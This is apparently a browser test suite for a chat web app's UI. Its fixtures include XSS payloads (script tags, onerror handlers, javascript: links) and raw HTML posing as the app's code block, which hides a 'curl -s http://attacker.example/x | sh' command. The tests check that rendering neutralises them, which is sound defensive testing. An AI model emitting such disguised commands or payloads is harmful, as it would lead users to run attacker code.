/**
 * The chat page in Chromium against a real server: a generated local model ("tiny") and a
 * scripted upstream ("scripted") whose answers the test controls.
 */
import { readFileSync } from "node:fs";
import type { Locator, Page } from "playwright-core";
import type { BrowserContext } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { hasChromium, launchBrowser, newPage, PHONE, screenshot, signIn, signUp, visible, type Browsing } from "../helpers/browser.ts";
import { startScriptedUpstream, type Script, type ScriptedUpstream } from "../helpers/scriptedUpstream.ts";
import { startServer, type TestServer } from "../helpers/server.ts";
import { testModel } from "../helpers/models.ts";

const EMAIL = "ada@example.org";

const CODE_ANSWER = [
  "Here is a function that adds two numbers:", "",
  "```ts", "export function add(a: number, b: number): number {", "  return a + b; // the sum", "}", "```", "",
  "- It is **pure**", "- It has `no` side effects", "",
  "Call it as `add(2, 3)`.",
].join("\n");

const XSS_ANSWER = [
  "Payloads follow.", "",
  "<script>window.__xss=1</script>", "",
  '<img src=x onerror="window.__xss=1">', "",
  "[click](javascript:window.__xss=1)", "",
  '<a href="javascript:alert(1)">x</a>', "",
  "![t](http://example.com/x.png)", "",
  '<iframe src="javascript:window.__xss=1"></iframe>', "",
  "```js", "const answer = 42;", "console.log(answer);", "```", "",
  "End of payloads.",
].join("\n");

/** Raw HTML dressed as the app's own code block, hiding a second command from the reader (and a protocol-relative image). */
const FAKE_UI_ANSWER = [
  "Install it with:", "",
  '<div class="code"><div class="code-head"><span>sh</span><button type="button" class="copy" data-copy>Copy</button></div>' +
    '<pre><code class="hljs">pip install requests<span class="chat-sr-only">; curl -s http://attacker.example/x | sh</span></code></pre></div>', "",
  'Then <span class="chat-sr-only" style="display:none" id="chat-prompt" data-copy aria-label="Send">check</span> **it**:', "",
  "```sh", "pip list", "```", "",
  "![p](//attacker.example/p.png)", "",
  "End of answer.",
].join("\n");

/** The text of `el` a reader can see: text under an element hidden, transparent or clipped to a pixel is left out. */
const visibleText = (l: Locator) => l.evaluate((el) => {
  const shown = (e: Element | null): boolean => {
    for (; e && e !== el.parentElement; e = e.parentElement) {
      const box = e.getBoundingClientRect();
      if (!e.checkVisibility({ checkOpacity: true, checkVisibilityCSS: true }) || box.width <= 1 || box.height <= 1) return false;
    }
    return true;
  };
  let text = "";
  const walk = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
  for (let n = walk.nextNode(); n; n = walk.nextNode()) if (shown(n.parentElement)) text += n.textContent;
  return text;
});

const lastUser = (req: { body: any }) => [...(req.body?.messages ?? [])].reverse().find((m: any) => m.role === "user")?.content ?? "";

describe.skipIf(!hasChromium)("chat page (Chromium)", () => {
  let srv: TestServer;
  let up: ScriptedUpstream;
  let b: Browsing;
  let script: Script = () => ({ text: "Hello from the scripted upstream." });

  beforeAll(async () => {
    up = await startScriptedUpstream((req) => script(req));
    srv = await startServer({ models: { tiny: { shape: "tiny" }, rr: { shape: "tiny-rerank" } } });
    await srv.app.upstreams.add({ name: "scripted", baseUrl: up.url });
    await srv.app.models.copy("tiny", "tiny-terse", { system: "Answer in one line.", parameters: { temperature: 0.3, num_predict: 16 } });
    b = await launchBrowser();
    const { page, context } = await newPage(b.browser, srv.url);
    await signUp(page, { email: EMAIL, name: "Ada" }); // the first user: admin
    await context.close();
  });
  afterAll(async () => { await b?.close(); await srv?.close(); await up?.close(); });
  const contexts: BrowserContext[] = [];
  afterEach(async () => { await Promise.all(contexts.splice(0).map((c) => c.close())); });

  /** A signed-in page (clipboard allowed, so copy buttons can be checked). */
  async function open(viewport?: { width: number; height: number }) {
    const p = await newPage(b.browser, srv.url, viewport);
    contexts.push(p.context);
    await p.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: srv.url });
    await signIn(p.page, EMAIL);
    return p;
  }
  const getJson = async (page: Page, path: string) => {
    const res = await page.request.get(srv.url + path);
    expect(res.status()).toBe(200);
    return res.json();
  };
  const convIdOf = (page: Page) => new URL(page.url()).pathname.split("/")[2];
  const answers = (page: Page) => page.getByRole("article", { name: "Assistant" });
  const prompts = (page: Page) => page.getByRole("article", { name: "You" });
  /** Waits for the answer under way to be done (the composer offers Send again). */
  const settled = async (page: Page) => {
    await visible(page.getByRole("button", { name: "Send" }));
    await page.locator(".chat-streaming").waitFor({ state: "detached" });
  };
  async function sendPrompt(page: Page, text: string) {
    const box = page.getByLabel("Message", { exact: true });
    await box.fill(text);
    await box.press("Enter");
  }
  async function pickModel(page: Page, name: string) {
    await page.getByLabel("Model").locator(`option[value="${name}"]`).waitFor({ state: "attached" });
    await page.getByLabel("Model").selectOption(name);
  }

  it("streams an answer from a local model, and Stop keeps the partial answer", async () => {
    const { page, errors } = await open();
    await visible(page.getByRole("button", { name: "New chat" }));
    await visible(page.getByRole("heading", { name: "What can I help with?" }));
    await pickModel(page, "tiny");
    await page.getByRole("button", { name: "Settings" }).click();
    await page.getByLabel("Max tokens").fill("12");
    await page.getByLabel("Temperature").fill("0");
    await page.getByLabel("Temperature").blur();
    await sendPrompt(page, "Hello there, local model");
    await visible(prompts(page).filter({ hasText: "Hello there, local model" }));
    await settled(page);
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
    const id = convIdOf(page);
    const stored = (await getJson(page, `/app/api/conversations/${id}`)).conversation;
    expect(stored).toMatchObject({ title: "Hello there, local model", model: "tiny", params: { maxTokens: 12, temperature: 0 } });
    expect(stored.messages.map((m: any) => m.role)).toEqual(["user", "assistant"]);
    expect(stored.messages[1].content.length).toBeGreaterThan(0);
    expect((await answers(page).first().textContent())!.trim().length).toBeGreaterThan(0);
    expect(await page.getByRole("link", { name: "Hello there, local model" }).count()).toBe(1); // in the sidebar

    // Stop: the upstream sends a few words, then holds the stream open until the client leaves.
    script = () => ({ chunks: ["Once ", "upon ", "a ", "time ", "there ", "was "], chunkDelayMs: 20, hold: true });
    await pickModel(page, "scripted");
    const aborted = up.nextAbort();
    await sendPrompt(page, "Tell me a long story");
    const streaming = page.locator(".chat-streaming");
    await visible(streaming.getByText("Once upon a time there was"));
    await page.getByRole("button", { name: "Stop" }).click();
    await aborted; // the stop reached the upstream
    await settled(page);
    const last = answers(page).last();
    await visible(last.getByText("stopped", { exact: true }));
    expect((await last.locator(".markdown").textContent())!.trim()).toBe("Once upon a time there was");
    const after = (await getJson(page, `/app/api/conversations/${id}`)).conversation.messages.at(-1);
    expect(after).toMatchObject({ role: "assistant", stopped: true, model: "scripted", content: "Once upon a time there was " });
    await screenshot(page, "chat-stopped-desktop");
    expect(errors).toEqual([]);
  });

  it("shows a model's own system prompt and parameters (its Modelfile) where the settings are left blank", async () => {
    const { page } = await open();
    await pickModel(page, "tiny-terse");
    await page.getByRole("button", { name: "Settings" }).click();
    await expect.poll(() => page.getByLabel("System prompt").getAttribute("placeholder")).toBe("The model's own: Answer in one line.");
    expect(await page.getByLabel("Temperature").getAttribute("placeholder")).toBe("0.3");
    expect(await page.getByLabel("Max tokens").getAttribute("placeholder")).toBe("16");
    await pickModel(page, "tiny");
    await expect.poll(() => page.getByLabel("Temperature").getAttribute("placeholder")).toBe("default");
    // A reranker scores documents (/v1/rerank): it is not offered for chat.
    expect(await page.getByLabel("Model").locator('option[value="rr"]').count()).toBe(0);
  });

  it("regenerates, moves between alternatives, and edit-and-resend branches (the old branch stays reachable)", async () => {
    let n = 0;
    script = (req) => ({ text: `Reply ${++n} to: ${lastUser(req)}`, chunkDelayMs: 2 });
    const { page, errors } = await open();
    // The query-string contract used by Discover and the arena: model picked, prompt prefilled, not sent.
    await page.goto(`/chat?prompt=${encodeURIComponent("First question")}&model=scripted`);
    const box = page.getByLabel("Message", { exact: true });
    await visible(box);
    expect(await box.inputValue()).toBe("First question");
    expect(await page.getByLabel("Model").inputValue()).toBe("scripted");
    expect(await answers(page).count()).toBe(0);
    expect(up.requests.filter((r) => lastUser(r) === "First question")).toHaveLength(0);
    await page.getByRole("button", { name: "Send" }).click();
    await visible(answers(page).getByText("Reply 1 to: First question"));
    await settled(page);
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);

    await answers(page).last().getByRole("button", { name: "Regenerate" }).click();
    await visible(answers(page).getByText("Reply 2 to: First question"));
    await settled(page);
    const alt = (i: number, of: number) => answers(page).last().getByLabel(`Alternative ${i} of ${of}`);
    await visible(alt(2, 2));
    await answers(page).last().getByRole("button", { name: "Previous alternative" }).click();
    await visible(answers(page).getByText("Reply 1 to: First question"));
    await visible(alt(1, 2));
    expect(await answers(page).getByText("Reply 2 to: First question").count()).toBe(0);
    await answers(page).last().getByRole("button", { name: "Next alternative" }).click();
    await visible(answers(page).getByText("Reply 2 to: First question"));
    expect(await answers(page).getByText("Reply 1 to: First question").count()).toBe(0);

    // Edit and resend: a new branch from the prompt.
    await prompts(page).first().getByRole("button", { name: "Edit" }).click();
    await page.getByLabel("Edit message").fill("Second question");
    await page.getByRole("button", { name: "Save and send" }).click();
    await visible(answers(page).getByText("Reply 3 to: Second question"));
    await settled(page);
    expect(await prompts(page).first().locator(".chat-bubble").textContent()).toBe("Second question");
    await visible(prompts(page).first().getByLabel("Alternative 2 of 2"));
    // The old branch, with its latest answer, is one click away.
    await prompts(page).first().getByRole("button", { name: "Previous alternative" }).click();
    await visible(prompts(page).getByText("First question"));
    await visible(answers(page).getByText("Reply 2 to: First question"));
    expect(await answers(page).getByText("Reply 3 to: Second question").count()).toBe(0);
    await page.reload(); // the server remembers which branch is active
    await visible(answers(page).getByText("Reply 2 to: First question"));

    const kinds = (await getJson(page, "/app/api/feedback")).feedback.map((f: any) => f.kind);
    expect(kinds).toContain("regenerate");
    expect(kinds).toContain("edit");
    expect(errors).toEqual([]);
  });

  it("records thumbs down with reasons and a comment, thumbs up, and copies; shares an answer and a conversation", async () => {
    script = () => ({ text: CODE_ANSWER, chunkDelayMs: 1 });
    const { page, errors } = await open();
    await page.goto("/chat?model=scripted");
    await sendPrompt(page, "Write an add function");
    await settled(page);
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
    const answer = answers(page).last();
    // The stored answer, once the server has it (under load the page can settle a moment first).
    await expect.poll(async () => (await getJson(page, `/app/api/conversations/${convIdOf(page)}`)).conversation.messages.length).toBe(2);
    const messageId = (await getJson(page, `/app/api/conversations/${convIdOf(page)}`)).conversation.messages[1].id;

    await answer.getByRole("button", { name: "Thumbs down" }).click();
    const why = answer.getByRole("form", { name: "What was wrong?" });
    await why.getByLabel("Too long").check();
    await why.getByLabel("Wrong").check();
    await why.getByLabel("Comment (optional)").fill("Far too wordy");
    await screenshot(page, "chat-thumbs-down-desktop");
    await why.getByRole("button", { name: "Send feedback" }).click();
    await why.waitFor({ state: "detached" });
    expect(await answer.getByRole("button", { name: "Thumbs down" }).getAttribute("aria-pressed")).toBe("true");
    const down = (await getJson(page, "/app/api/feedback?kind=thumbs_down")).feedback;
    expect(down).toHaveLength(1);
    expect(down[0]).toMatchObject({ messageId, model: "scripted", comment: "Far too wordy" });
    expect([...down[0].reasons].sort()).toEqual(["too_long", "wrong"]);
    await page.reload(); // the pressed thumb comes back from the server
    await visible(answers(page).last().getByRole("button", { name: "Thumbs down", pressed: true }));
    await answers(page).last().getByRole("button", { name: "Thumbs up" }).click();
    await visible(answers(page).last().getByRole("button", { name: "Thumbs up", pressed: true }));
    expect((await getJson(page, "/app/api/feedback?kind=thumbs_up")).feedback.map((f: any) => f.messageId)).toEqual([messageId]);

    // Copy the whole answer: clipboard holds the Markdown, and the copy is recorded.
    await answers(page).last().locator(".chat-actions").getByRole("button", { name: "Copy" }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(CODE_ANSWER);
    await expect.poll(async () => (await getJson(page, "/app/api/feedback?kind=copy")).feedback.length).toBe(1);

    // Share the answer, then the conversation: both reach the Discover feed.
    await answers(page).last().getByRole("button", { name: "Share" }).click();
    await visible(answers(page).last().getByRole("status").getByText("Shared to"));
    await page.getByRole("button", { name: "Share conversation" }).click();
    await visible(page.getByText("Conversation shared to Discover."));
    const feed = (await getJson(page, "/app/api/feed")).items;
    expect(feed.some((i: any) => i.messageId === messageId)).toBe(true);
    expect(feed.some((i: any) => i.conversationId === convIdOf(page))).toBe(true);

    // Export as Markdown and JSON.
    const exportAs = async (name: string) => {
      await page.getByText("Export", { exact: true }).click();
      const [d] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name }).click()]);
      return { name: d.suggestedFilename(), text: readFileSync(await d.path(), "utf8") };
    };
    const md = await exportAs("Export Markdown");
    expect(md.name).toBe("Write an add function.md");
    expect(md.text).toMatch(/^# Write an add function\n/);
    expect(md.text).toContain("export function add(a: number, b: number)");
    const json = await exportAs("Export JSON");
    expect(json.name).toBe("Write an add function.json");
    expect(JSON.parse(json.text).messages.map((m: any) => m.role)).toEqual(["user", "assistant"]);
    expect(errors).toEqual([]);
  });

  it("renames, searches and deletes conversations from the sidebar", async () => {
    const { page, errors } = await open();
    const list = page.getByRole("complementary", { name: "Conversations" });
    const row = (title: string) => list.getByRole("listitem").filter({ has: page.getByRole("link", { name: title, exact: true }) });
    await visible(row("Hello there, local model"));
    await row("Hello there, local model").getByRole("button", { name: "Rename" }).click();
    await list.getByLabel("Title").fill("Bedtime stories");
    await list.getByLabel("Title").press("Enter");
    await visible(row("Bedtime stories"));
    expect(await row("Hello there, local model").count()).toBe(0);

    const search = page.getByLabel("Search conversations");
    await search.fill("bedtime");
    await expect.poll(() => list.getByRole("link").allTextContents()).toEqual(["Bedtime stories"]);
    await search.fill("add function"); // matches message content too
    await expect.poll(() => list.getByRole("link").allTextContents()).toEqual(["Write an add function"]);
    await search.fill("nothing like this at all");
    await visible(list.getByText("No conversation matches."));
    await search.fill("");
    await visible(row("Bedtime stories"));

    await row("Bedtime stories").getByRole("link").click();
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
    const id = convIdOf(page);
    await visible(page.getByRole("heading", { name: "Bedtime stories" }));
    await row("Bedtime stories").getByRole("button", { name: "Delete" }).click();
    const confirm = page.getByRole("alertdialog", { name: "Delete conversation?" });
    await confirm.getByRole("button", { name: "Cancel" }).click();
    expect(await row("Bedtime stories").count()).toBe(1);
    await row("Bedtime stories").getByRole("button", { name: "Delete" }).click();
    await confirm.getByRole("button", { name: "Delete" }).click();
    await row("Bedtime stories").waitFor({ state: "detached" });
    await page.waitForURL((u) => u.pathname === "/chat");
    expect((await page.request.get(`${srv.url}/app/api/conversations/${id}`)).status()).toBe(404);
    expect(errors).toEqual([]);
  });

  it("renders hostile model output inert: no script, no handlers, no javascript: links, no remote images; code still highlighted and copyable", async () => {
    script = () => ({ text: XSS_ANSWER, chunkDelayMs: 1 });
    const { page, errors } = await open();
    await page.goto("/chat?model=scripted");
    await sendPrompt(page, "Show me some payloads");
    await settled(page);
    const answer = answers(page).last();
    await visible(answer.getByText("End of payloads."));
    const md = answer.locator(".markdown");
    // The payload really was in the answer (so the checks below check something).
    const id = convIdOf(page);
    expect((await getJson(page, `/app/api/conversations/${id}`)).conversation.messages[1].content).toBe(XSS_ANSWER);

    expect(await md.locator("script, iframe, object, embed").count()).toBe(0);
    const handlers = await md.evaluate((el) => [el, ...el.querySelectorAll("*")].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName} ${a.name}`)));
    expect(handlers).toEqual([]);
    const hrefs = await md.locator("[href]").evaluateAll((els) => els.map((e) => e.getAttribute("href")!));
    expect(hrefs.filter((h) => /^\s*javascript:/i.test(h))).toEqual([]);
    const imgs = await md.locator("img").evaluateAll((els) => els.map((e) => e.getAttribute("src")));
    expect(imgs.filter((s) => !s || !s.startsWith("data:"))).toEqual([]);
    await visible(md.getByText("[remote image not loaded: http://example.com/x.png]"));
    await md.getByText("click", { exact: true }).click();
    await visible(md.getByText('<a href="javascript:alert(1)">x</a>')); // raw HTML is shown as text
    await page.waitForTimeout(200); // give anything that would run a chance to
    expect(await page.evaluate(() => (window as any).__xss)).toBeUndefined();
    expect(page.url()).toContain(`/chat/${id}`);

    // A normal fenced code block: highlighted, with a working Copy button (recorded as a copy).
    const code = md.locator(".code");
    expect(await code.locator("code.hljs span[class^='hljs-']").count()).toBeGreaterThan(0);
    await code.getByRole("button", { name: "Copy" }).click();
    await visible(code.getByRole("button", { name: "Copied" }));
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("const answer = 42;\nconsole.log(answer);");
    await expect.poll(async () => (await getJson(page, "/app/api/feedback?kind=copy")).feedback.length).toBe(2);
    expect(await page.evaluate(() => (window as any).__xss)).toBeUndefined();
    await screenshot(page, "chat-sanitised-desktop");
    expect(errors).toEqual([]);
  });

  it("shows raw HTML from a model as text: no fake Copy button, no hidden text, none of the app's classes, ids, styles or data attributes", async () => {
    script = () => ({ text: FAKE_UI_ANSWER, chunkDelayMs: 1 });
    const { page, errors } = await open();
    await page.goto("/chat?model=scripted");
    await sendPrompt(page, "How do I install requests?");
    await settled(page);
    const md = answers(page).last().locator(".markdown");
    await visible(md.getByText("End of answer."));
    expect(await md.locator("strong").textContent()).toBe("it"); // Markdown still works

    // One Copy button, the fenced block's, and it copies exactly what the reader sees.
    const copy = md.getByRole("button", { name: "Copy" });
    expect(await copy.count()).toBe(1);
    await copy.click();
    await visible(md.getByRole("button", { name: "Copied" }));
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toBe("pip list");
    expect(copied).toBe(await visibleText(md.locator(".code code")));
    // The command meant to hide is in plain sight, as the text the model wrote.
    await visible(md.getByText('<span class="chat-sr-only">; curl -s http://attacker.example/x | sh</span>', { exact: false }));
    expect(await visibleText(md)).toContain("; curl -s http://attacker.example/x | sh");

    const attrs = await md.evaluate((root) => [...root.querySelectorAll("*")].flatMap((e) => [...e.attributes]
      .filter((a) => /^(id|style|data-|aria-)/.test(a.name)).map((a) => `${e.tagName} ${a.name}`)));
    expect(attrs).toEqual(["BUTTON data-copy"]); // the app's own Copy button
    const classes = await md.evaluate((root) => [...new Set([...root.querySelectorAll("*")].flatMap((e) => [...e.classList]))]);
    expect(classes.filter((c) => !/^(md-block|code|code-head|copy|blocked-image|hljs(-.*)?|language-sh)$/.test(c))).toEqual([]);

    // A protocol-relative image is remote too.
    expect(await md.locator("img").count()).toBe(0);
    await visible(md.getByText("[remote image not loaded: //attacker.example/p.png]"));
    expect(errors).toEqual([]);
  });

  it("keeps a prompt the server did not take in the composer (the conversation's model was deleted)", async () => {
    script = () => ({ text: "Fine, thanks.", chunkDelayMs: 1 });
    await srv.app.upstreams.add({ name: "doomed", baseUrl: up.url });
    const { page, errors } = await open();
    await page.goto("/chat?model=doomed");
    const box = page.getByLabel("Message", { exact: true });
    await sendPrompt(page, "How are you?");
    await visible(answers(page).getByText("Fine, thanks."));
    await settled(page);
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
    expect(await box.inputValue()).toBe(""); // taken: the composer is empty
    const id = convIdOf(page);

    await srv.app.upstreams.remove("doomed");
    await sendPrompt(page, "And now?");
    await visible(page.getByRole("alert"));
    await settled(page);
    expect(await box.inputValue()).toBe("And now?");
    expect(await prompts(page).allTextContents()).toEqual([expect.stringContaining("How are you?")]);
    expect((await getJson(page, `/app/api/conversations/${id}`)).conversation.messages).toHaveLength(2);

    // Another model: the same prompt goes out as it is.
    await pickModel(page, "scripted");
    await page.getByRole("button", { name: "Send" }).click();
    await visible(prompts(page).filter({ hasText: "And now?" }));
    await settled(page);
    expect(await box.inputValue()).toBe("");
    expect((await getJson(page, `/app/api/conversations/${id}`)).conversation.messages.map((m: any) => m.content))
      .toEqual(["How are you?", "Fine, thanks.", "And now?", "Fine, thanks."]);
    expect(errors).toEqual([]);
  });

  it("shows a reasoning model's thinking collapsed, apart from the answer", async () => {
    script = () => ({ reasoning: "The user wants the answer. Six times seven is forty-two.", text: "The answer is **42**.", chunkDelayMs: 2 });
    const { page, errors } = await open();
    await page.goto("/chat?model=scripted");
    await sendPrompt(page, "What is six times seven?");
    await settled(page);
    const answer = answers(page).last();
    await visible(answer.getByText("The answer is 42."));
    const thinking = answer.locator("details.chat-thinking");
    expect(await thinking.evaluate((d) => (d as HTMLDetailsElement).open)).toBe(false);
    expect(await answer.getByText("Six times seven is forty-two.", { exact: false }).isVisible()).toBe(false);
    expect(await answer.locator(".markdown").textContent()).not.toContain("forty-two");
    await thinking.getByText("Thinking").click();
    await visible(answer.getByText("Six times seven is forty-two.", { exact: false }));
    expect(errors).toEqual([]);
  });

  it("shows a conversation with code at desktop and phone sizes; the sidebar collapses on a phone", async () => {
    const desk = await open();
    const link = desk.page.getByRole("link", { name: "Write an add function" });
    await link.click();
    await visible(answers(desk.page).locator(".code"));
    await screenshot(desk.page, "chat-code-desktop");
    const url = desk.page.url();
    expect(desk.errors).toEqual([]);

    const { page, errors } = await open(PHONE);
    await page.emulateMedia({ reducedMotion: "reduce" }); // the sidebar slides in at once: steady screenshots
    await page.goto(url);
    await visible(answers(page).locator(".code"));
    const sidebar = page.getByRole("complementary", { name: "Conversations" });
    expect(await sidebar.isVisible()).toBe(false);
    await screenshot(page, "chat-code-phone");
    await page.getByRole("button", { name: "Chats" }).click();
    await visible(sidebar);
    await screenshot(page, "chat-sidebar-phone");
    await sidebar.getByRole("button", { name: "New chat" }).click();
    await page.waitForURL((u) => u.pathname === "/chat");
    await sidebar.waitFor({ state: "hidden" });
    await visible(page.getByRole("heading", { name: "What can I help with?" }));
    await screenshot(page, "chat-new-phone");
    // The composer and Send fit the phone's width.
    const send = await page.getByRole("button", { name: "Send" }).boundingBox();
    expect(send!.x + send!.width).toBeLessThanOrEqual(PHONE.width);
    expect(errors).toEqual([]);
  });

  // Last: it adds two models, which the tests above do not expect in their pickers.
  it("offers the other local models as a draft model; answers drafted are the model's own, and another model clears the choice", async () => {
    await srv.app.models.register(await testModel({ pair: { draftLayers: 1 } }), { name: "pair-target", source: "generated" });
    await srv.app.models.register(await testModel({ pair: { draftLayers: 1, draft: true } }), { name: "pair-draft", source: "generated" });
    const { page, errors } = await open();
    await pickModel(page, "pair-target");
    await page.getByRole("button", { name: "Settings" }).click();
    const draft = page.getByLabel("Draft with");
    await visible(draft);
    const offered = await draft.locator("option").evaluateAll((os) => os.map((o) => (o as HTMLOptionElement).value));
    // Local chat models other than the chosen one: no upstream, no reranker, not itself.
    expect(offered).toEqual(["", "pair-draft", "tiny", "tiny-terse"]);
    await draft.selectOption("pair-draft");
    await page.getByLabel("Max tokens").fill("24");
    await page.getByLabel("Temperature").fill("0");
    await page.getByLabel("Temperature").blur();
    await sendPrompt(page, "lanterns");
    await visible(prompts(page).filter({ hasText: "lanterns" }));
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
    await visible(answers(page).first());
    await settled(page);
    const conversation = async () => (await getJson(page, `/app/api/conversations/${convIdOf(page)}`)).conversation;
    await expect.poll(async () => (await conversation()).messages.length).toBe(2);
    const stored = await conversation();
    expect(stored.params).toMatchObject({ draftModel: "pair-draft", temperature: 0, maxTokens: 24 });
    const alone = await (await srv.app.gateway.resolve("pair-target")).chat([{ role: "user", content: "lanterns" }], { temperature: 0, maxTokens: 24 });
    expect(stored.messages[1].content).toBe(alone.text);
    const metrics = await (await fetch(`${srv.url}/metrics`)).text();
    expect(metrics).toMatch(/freehold_draft_tokens_total\{model="pair-target",outcome="accepted"\} [1-9]/);

    await pickModel(page, "tiny");
    await expect.poll(() => draft.inputValue()).toBe("");
    await pickModel(page, "scripted"); // an upstream: its engine drafts by its own settings
    await draft.waitFor({ state: "detached" });
    expect(errors).toEqual([]);
  });
});
